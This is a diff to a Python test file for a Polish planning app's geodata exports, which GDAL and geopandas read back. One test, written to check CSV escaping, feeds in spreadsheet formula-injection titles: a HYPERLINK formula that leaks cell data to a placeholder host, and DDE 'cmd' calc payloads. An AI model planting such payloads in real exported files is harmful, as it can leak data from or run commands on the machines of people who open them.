@@ -1,5 +1,6 @@
 """Projects of all three geometry types, exported and read back with GDAL and geopandas."""
 
+import io
 import json
 import subprocess
 import zipfile
@@ -7,8 +8,11 @@ import zipfile
 import geopandas as gpd
 import pandas as pd
 import pytest
+import shapely
+import sqlalchemy as sa
 
 from core.errors import BadRequest, Conflict, InvalidInput
+from services.planning.export_formats import EXPORT_FORMATS
 from services.planning.exports import export
 from services.planning.projects import (
     create_project,
@@ -130,10 +134,113 @@ def test_stale_project_edit_gets_409_and_is_kept(reference_engine, projects):
     ({"cost_pln": -5}, BadRequest, "non-negative"),
     ({"funding_source": "eu"}, BadRequest, "funding_source must be one of"),
     ({"start_date": "2026-01-01", "end_date": "2025-01-01"}, BadRequest, "end_date is before"),
-    ({"priority": 7}, BadRequest, "priority must be 1, 2 or 3"),
+    ({"priority": 7}, BadRequest, "priority must be"),
     ({"geometry": {"type": "Point", "coordinates": [0, 0]}}, InvalidInput, "outside Poland"),
     ({"area_ids": [999999]}, InvalidInput, "are not areas of partnership P01"),
 ])
 def test_bad_project_input(reference_engine, partnerships_loaded, change, error, message):
     with pytest.raises(error, match=message):
         create_project(reference_engine, "P01", {**PROJECTS[1], **change})
+
+
+HOSTILE_TITLES = ['=HYPERLINK("http://example.invalid/?leak="&A1,"Kliknij")',
+                  "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
+                  "\t=1+1", "\r=1+1"]
+
+
+def test_csv_cells_cannot_become_formulas(reference_engine, partnerships_loaded, tmp_path):
+    import csv
+
+    from core.csv_cells import safe_cell
+    from services.analysis.comparison import compare, comparison_csv
+
+    created = [create_project(reference_engine, "P01", {**PROJECTS[1], "title": title,
+                                                        "theme": "-", "cost_pln": 1234.5})
+               for title in HOSTILE_TITLES]
+    out = export(reference_engine, "projects", "csv", tmp_path / "p.csv", partnership="P01")
+    with open(out["path"], newline="", encoding="utf-8") as fh:
+        rows = {int(r["id"]): r for r in csv.DictReader(fh)}
+    for project, title in zip(created, HOSTILE_TITLES, strict=True):
+        row = rows[project["id"]]
+        assert row["title"] == "'" + title.strip() and row["theme"] == "'-"  # titles are stripped
+        assert row["cost_pln"] == "1234.5" and row["priority"] == "2"  # numbers stay numbers
+    result = compare(reference_engine, "20")
+    result["units"][0]["name"] = HOSTILE_TITLES[0]
+    result["units"][0]["functional_areas"] = ["@evil"]
+    table = list(csv.reader(io.StringIO(comparison_csv(result)[1:]), delimiter=";"))
+    assert table[1][2] == "'" + HOSTILE_TITLES[0] and table[1][-1] == "'@evil"
+    assert table[1][4] == str(round(result["units"][0]["area_km2"], 3)).replace(".", ",")
+    assert [safe_cell(v) for v in ("\tx", "\rx", "-1", -1, 2.5, None, "")] == [
+        "'\tx", "'\rx", "'-1", -1, 2.5, None, ""]
+
+
+def test_csv_geometry_is_read_by_gdal(reference_engine, projects, tmp_path):
+    out = export(reference_engine, "projects", "csv", tmp_path / "p.csv", partnership="P01")
+    assert (tmp_path / "p.csvt").read_text().startswith("Integer,String,String")
+    assert (tmp_path / "p.csvt").read_text().strip().endswith(",Integer,WKT")
+    info = subprocess.run(["ogrinfo", "-ro", "-so", "-al", out["path"]], capture_output=True,
+                          text=True, check=True).stdout
+    assert "Geometry Column = geom_WKT" in info and 'ID["EPSG",2180]' in info
+    assert "cost_pln: Real" in info and "start_date: Date" in info
+    copy = tmp_path / "copy.gpkg"
+    subprocess.run(["ogr2ogr", "-f", "GPKG", str(copy), out["path"]], check=True,
+                   capture_output=True)
+    frame = gpd.read_file(copy).set_index("id")
+    assert frame.crs.to_epsg() == 2180 and len(frame) == out["features"]
+    for project in projects:
+        assert frame.loc[project["id"], "geometry"].geom_type == project["geometry_type"] \
+            .title().replace("string", "String").replace("polygon", "Polygon")
+    # The download is the CSV alone: GDAL still reads the geometry; the CRS is EPSG:2180.
+    alone = tmp_path / "alone" / "p.csv"
+    alone.parent.mkdir()
+    alone.write_bytes((tmp_path / "p.csv").read_bytes())
+    assert gpd.read_file(alone).geometry.notna().all()
+    assert "Extent: (7" in subprocess.run(["ogrinfo", "-ro", "-so", "-al", str(alone)],
+                                          capture_output=True, text=True, check=True).stdout
+
+
+@pytest.fixture
+def huge_area(reference_engine, partnerships_loaded):
+    """A stored functional area of 120,001 vertices (more than a drawing may have)."""
+    with reference_engine.begin() as conn:
+        area_id = conn.execute(sa.text(
+            "INSERT INTO functional_area (partnership_id, name, kind, delineation, geom)"
+            " SELECT 'P01', 'Dolina (bardzo dokładna)', 'river_valley', 'drawn',"
+            " ST_Multi(ST_Buffer(ST_Centroid(geom), 3000, 30000)) FROM gmina"
+            " WHERE teryt = '2013033' RETURNING id")).scalar_one()
+        vertices = conn.execute(sa.text(
+            "SELECT ST_NPoints(geom) FROM functional_area WHERE id = :i"), {"i": area_id}
+        ).scalar_one()
+    assert vertices > 100_000
+    yield area_id
+    with reference_engine.begin() as conn:
+        conn.execute(sa.text("UPDATE functional_area SET deleted = true WHERE id = :i"),
+                     {"i": area_id})
+
+
+@pytest.mark.parametrize("fmt", ["csv", "geojson", "shp", "gpkg"])
+def test_an_area_of_any_size_exports(reference_engine, huge_area, tmp_path, fmt):
+    out = export(reference_engine, "areas", fmt, tmp_path / f"a{EXPORT_FORMATS[fmt].suffix}",
+                 partnership="P01")
+    path = f"/vsizip/{out['path']}/areas_polygons.shp" if fmt == "shp" else out["path"]
+    frame = gpd.read_file(path)
+    ids = frame["ID" if fmt == "shp" else "id"].astype(int).tolist()
+    big = frame.geometry.iloc[ids.index(huge_area)]
+    assert shapely.get_num_coordinates(big) > 100_000
+
+
+def test_drawn_geometries_have_a_vertex_limit(reference_engine, partnerships_loaded):
+    import numpy as np
+
+    from services.planning.areas import create_area
+    from spatial.geometry_input import MAX_VERTICES
+
+    angles = np.linspace(0, 2 * np.pi, MAX_VERTICES + 10)
+    ring = np.column_stack([22.4 + 0.05 * np.cos(angles), 52.8 + 0.03 * np.sin(angles)])
+    ring[-1] = ring[0]
+    drawn = {"type": "Polygon", "coordinates": [ring.tolist()]}
+    with pytest.raises(InvalidInput, match="more than 50,000 vertices"):
+        create_area(reference_engine, "P01", {"name": "Za dokładny", "kind": "other",
+                                              "geometry": drawn})
+    with pytest.raises(InvalidInput, match="more than 50,000 vertices"):
+        create_project(reference_engine, "P01", {**PROJECTS[1], "geometry": drawn})
